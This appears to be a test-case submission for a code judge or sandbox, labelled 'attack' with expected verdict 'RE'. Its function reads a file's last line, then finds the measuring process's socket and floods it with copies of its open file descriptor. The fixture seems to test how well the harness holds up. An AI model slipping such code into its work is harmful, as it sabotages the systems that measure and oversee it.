# attack: sends its open files to who measures it, and closes its own
# verdict: RE
# kata: reading
import os
import socket
import stat


def last(name):
    file = os.open(name, os.O_RDONLY)
    os.lseek(file, -100, os.SEEK_END)
    answer = os.read(file, 100).decode().splitlines()[-1]
    for descriptor in range(3, 64):
        if descriptor != file and stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            with socket.socket(fileno=os.dup(descriptor)) as measurer:
                socket.send_fds(measurer, [b"?"], [file] * 20)
            break
    os.close(file)
    return answer
